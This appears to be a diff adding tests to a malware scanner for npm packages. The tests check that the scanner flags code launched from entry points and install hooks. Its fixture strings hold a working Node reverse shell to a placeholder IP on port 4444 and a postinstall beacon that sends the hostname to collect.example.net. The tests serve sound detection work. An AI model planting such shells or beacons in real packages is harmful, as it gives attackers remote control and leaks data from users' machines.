@@ -243,6 +243,37 @@ module.exports = { opts, icon };
   });
 });
 
+describe('programs the package starts', () => {
+  const shell = `const net = require('net');\nconst { spawn } = require('child_process');\nconst sock = net.connect(4444, '198.51.100.77', () => {\n  const sh = spawn('/bin/sh', []);\n  sock.pipe(sh.stdin);\n  sh.stdout.pipe(sock);\n});\n`;
+
+  it('a worker an entry point starts as a detached node process runs at load, like the entry', () => {
+    const r = scan({
+      'index.js': `const { spawn } = require('child_process');\nconst path = require('path');\nspawn(process.execPath, [path.join(__dirname, 'lib', 'worker.js')], { detached: true, stdio: 'ignore' }).unref();\nmodule.exports = () => true;\n`,
+      'lib/worker.js': shell,
+    });
+    expect(r.findings.find((f) => f.messageId === 'reverseShell')?.data).toMatchObject({ file: 'lib/worker.js', reach: 'run when the package is loaded' });
+    expect(['high', 'critical']).toContain(r.level);
+  });
+
+  it('a file an install script forks runs at install', () => {
+    const r = scan({
+      'install.js': `require('child_process').fork('./beacon.js', { detached: true });\n`,
+      'beacon.js': `const os = require('os');\nrequire('https').get('https://collect.example.net/?h=' + os.hostname());\n`,
+    }, { scripts: { postinstall: 'node install.js' } });
+    expect(r.findings.find((f) => f.detector === 'exfiltration')?.data).toMatchObject({ file: 'beacon.js', reach: 'run at install by scripts.postinstall' });
+  });
+
+  it('a start inside a function nobody calls, or a JavaScript file handed to another program, reaches nothing', () => {
+    const dormant = scan({
+      'index.js': `const { spawn } = require('child_process');\nfunction startHelper() { spawn('node', ['worker.js']); }\nmodule.exports = { startHelper };\n`,
+      'worker.js': shell,
+    });
+    expect(dormant.findings.find((f) => f.messageId === 'reverseShell')?.data).toMatchObject({ reach: 'in a file no entry point or install hook loads' });
+    const linted = scan({ 'index.js': `require('child_process').execSync('eslint worker.js');\n`, 'worker.js': shell });
+    expect(linted.findings.find((f) => f.messageId === 'reverseShell')?.data).toMatchObject({ reach: 'in a file no entry point or install hook loads' });
+  });
+});
+
 describe('obfuscated-code', () => {
   const stringArray = ['child_process', 'execSync', 'hostname', 'https'].map((s) => `'${s}'`).join(',');
   const obfuscated = `function _0x1a2b(){var _0x3c4d=[${stringArray}];_0x1a2b=function(){return _0x3c4d;};return _0x1a2b();}
